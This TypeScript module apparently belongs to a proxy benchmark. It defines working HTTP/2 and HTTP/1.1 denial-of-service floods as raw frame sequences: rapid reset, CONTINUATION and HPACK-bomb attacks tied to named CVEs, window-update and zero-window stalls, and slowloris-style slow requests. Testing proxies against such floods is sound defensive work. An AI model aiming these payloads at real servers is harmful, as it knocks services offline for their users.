import { flag, frameType, settingId } from '#edge-proxy/tunnel/http2.ts';
import { rawFrame } from '#edge-proxy/tunnel/memory-wire.ts';
import { benchHost, benchRequests } from '../proxy/hop.ts';
import { peerNames } from '../proxy/peers.ts';
import { connectBlock, greeting, numbers, onNextStreams, requestBlock } from './frames.ts';

/** What one connection of a hostile peer says. */
export interface Attack {
  /** At first. */
  readonly greeting: Buffer;
  /** And then, again and again. Without it the connection ends. */
  readonly next?: () => Buffer;
}

/** A hostile peer's first line: its first connection is there. */
export const begun = 'begun';

/** One way of being a bad neighbour. */
export interface Flood {
  readonly name: string;
  /** For the reader. */
  readonly note: string;
  /** `inbound`: mTLS, at the proxy of the service; `outbound`: beside the good client, at its own proxy, in clear text. */
  readonly at: 'inbound' | 'outbound';
  /** Shows the certificate of a caller who is allowed. */
  readonly authenticated: boolean;
  /** Open at once; who is cut comes again at once. */
  readonly connections: number;
  readonly alpn: 'h2' | 'http/1.1';
  /** Between two pieces on a connection, ms; 0: as fast as they are taken. */
  readonly pauseMs: number;
  /** Peers at which it can't be, and why. */
  readonly notAt?: Readonly<Record<string, string>>;
  /** @param tunnels whether a CONNECT opens a stream there; else requests have to */
  attack(tunnels: boolean): Attack;
}

const ends = flag.endHeaders | flag.endStream;
/** Frames, or groups of them, that are written together. */
const batch = 256;
const again = (one: Buffer, times = batch): (() => Buffer) => {
  const whole = Buffer.concat(Array.from({ length: times }, () => one));
  return () => whole;
};
const { method, path } = benchRequests.http;
const requestLine = `${method} ${path} HTTP/1.1\r\nHost: ${benchHost}\r\n`;

const overHttp2 = { at: 'inbound', authenticated: true, connections: 4, alpn: 'h2', pauseMs: 0 } as const;
const slowly = { ...overHttp2, connections: 200, alpn: 'http/1.1', pauseMs: 100 } as const;
const locally = { ...overHttp2, at: 'outbound', authenticated: false } as const;

/** Requests that are taken back at once (CVE-2023-44487). */
const resetting = (block: Buffer): Attack => ({
  greeting: greeting(),
  next: onNextStreams(
    [rawFrame(frameType.headers, ends, 0, block), rawFrame(frameType.rstStream, 0, 0, numbers(8))],
    batch,
  ),
});

/** Streams that one connection may hold open, less some. */
const streams = 900;

/** All there are. */
export const floods: readonly Flood[] = [
  {
    ...overHttp2,
    name: 'handshakes',
    note: 'handshakes without a certificate, 50 at once',
    authenticated: false,
    connections: 50,
    attack: () => ({ greeting: Buffer.alloc(0) }),
  },
  { ...overHttp2, name: 'resets', note: 'requests, each reset at once', attack: () => resetting(requestBlock()) },
  {
    ...overHttp2,
    name: 'connect-resets',
    note: 'CONNECT, each reset at once',
    notAt: Object.fromEntries(peerNames.map((name) => [name, 'it forwards requests, and no CONNECT'])),
    attack: () => resetting(connectBlock),
  },
  {
    ...overHttp2,
    name: 'pings',
    note: 'PING',
    attack: () => ({ greeting: greeting(), next: again(rawFrame(frameType.ping, 0, 0, numbers(1, 2))) }),
  },
  {
    ...overHttp2,
    name: 'settings',
    note: `SETTINGS that change the windows of ${streams} open streams`,
    attack: (tunnels) => {
      // A request's stream stays open while its answer waits for a window, of which an octet alone ever comes.
      const [flags, block] = tunnels ? [flag.endHeaders, connectBlock] : [ends, requestBlock('/orders/16k')];
      const open = onNextStreams([rawFrame(frameType.headers, flags, 0, block)], streams);
      const sizes = tunnels ? [0, 65_535] : [1, 0];
      const change = sizes.map((size) => greeting([settingId.initialWindowSize, size]).subarray(24));
      const first = tunnels ? greeting() : greeting([settingId.initialWindowSize, 0]);
      return { greeting: Buffer.concat([first, open()]), next: again(Buffer.concat(change)) };
    },
  },
  {
    ...overHttp2,
    name: 'continuations',
    note: 'a head in CONTINUATION frames of an octet each that does not end (CVE-2024-27316)',
    attack: () => ({
      greeting: Buffer.concat([greeting(), rawFrame(frameType.headers, flag.endStream, 1, requestBlock())]),
      next: again(rawFrame(frameType.continuation, 0, 1, Buffer.of(0x82))),
    }),
  },
  {
    ...overHttp2,
    name: 'hpack-bombs',
    note: 'heads of 48 KiB that each name a field of 3.9 KiB 49,000 times (CVE-2016-1544)',
    attack: () => {
      const value = Buffer.alloc(3_900, 'x');
      // A literal that the table keeps, name `a`, value length 3,900 (RFC 7541 5.1: 127 + 3,773).
      const kept = Buffer.concat([Buffer.of(0x40, 1, 0x61, 0x7f, 0xbd, 0x1d), value]);
      const named = Buffer.alloc(16_384, 0xbe);
      const bomb = [
        rawFrame(frameType.headers, flag.endStream, 0, named),
        rawFrame(frameType.continuation, 0, 0, named),
        rawFrame(frameType.continuation, flag.endHeaders, 0, named),
      ];
      const next = onNextStreams(bomb, 4);
      const first = onNextStreams([rawFrame(frameType.headers, ends, 0, Buffer.concat([requestBlock(), kept]))], 1);
      return { greeting: Buffer.concat([greeting(), first()]), next: skipFirst(next) };
    },
  },
  {
    ...overHttp2,
    name: 'zero-windows',
    note: `${streams} answers of 16 KiB that wait for a window, which is given an octet at a time`,
    connections: 2,
    attack: () => {
      const open = onNextStreams([rawFrame(frameType.headers, ends, 0, requestBlock('/orders/16k'))], streams);
      const crumbs = Array.from({ length: streams }, (_, index) =>
        rawFrame(frameType.windowUpdate, 0, index * 2 + 1, numbers(1)),
      );
      return {
        greeting: Buffer.concat([greeting([settingId.initialWindowSize, 0]), open()]),
        next: again(Buffer.concat(crumbs), 1),
      };
    },
  },
  {
    ...overHttp2,
    name: 'window-updates',
    note: 'WINDOW_UPDATE by an octet, for the connection',
    attack: () => ({ greeting: greeting(), next: again(rawFrame(frameType.windowUpdate, 0, 0, numbers(1))) }),
  },
  {
    ...overHttp2,
    name: 'empty-data',
    note: 'DATA without octets (CVE-2019-9518)',
    attack: (tunnels) => ({
      greeting: Buffer.concat([
        greeting(),
        rawFrame(frameType.headers, flag.endHeaders, 1, tunnels ? connectBlock : requestBlock()),
      ]),
      next: again(rawFrame(frameType.data, 0, 1)),
    }),
  },
  {
    ...overHttp2,
    name: 'crumbs',
    note: 'bodies in DATA frames of an octet each',
    attack: () => ({
      greeting: greeting(),
      next: onNextStreams(
        [
          rawFrame(frameType.headers, flag.endHeaders, 0, requestBlock()),
          ...Array.from({ length: 63 }, () => rawFrame(frameType.data, 0, 0, Buffer.of(0x78))),
          rawFrame(frameType.data, flag.endStream, 0),
        ],
        8,
      ),
    }),
  },
  {
    ...slowly,
    name: 'slow-heads',
    note: 'heads that come an octet in 100 ms, on 200 connections',
    attack: () => ({ greeting: Buffer.from(`${requestLine}X-Slow: `), next: again(Buffer.of(0x78), 1) }),
  },
  {
    ...slowly,
    name: 'slow-bodies',
    note: 'bodies that come an octet in 100 ms, on 200 connections',
    attack: () => ({
      greeting: Buffer.from(`${requestLine}Content-Length: 100000\r\n\r\n`),
      next: again(Buffer.of(0x78), 1),
    }),
  },
  {
    ...locally,
    name: 'local-resets',
    note: 'a client of the same proxy whose requests, by HTTP/2, are each reset at once',
    notAt: {
      nginx: 'nginx 1.22 speaks one version of HTTP at a port without TLS, and the good client speaks the other',
    },
    attack: () => resetting(requestBlock()),
  },
  {
    ...locally,
    name: 'local-hang-ups',
    note: 'a client of the same proxy that asks and hangs up, on 32 connections at once',
    connections: 32,
    attack: () => ({ greeting: Buffer.from(`${requestLine}\r\n`) }),
  },
];

/** The first stream was used for something else. */
function skipFirst(next: () => Buffer): () => Buffer {
  next();
  return next;
}
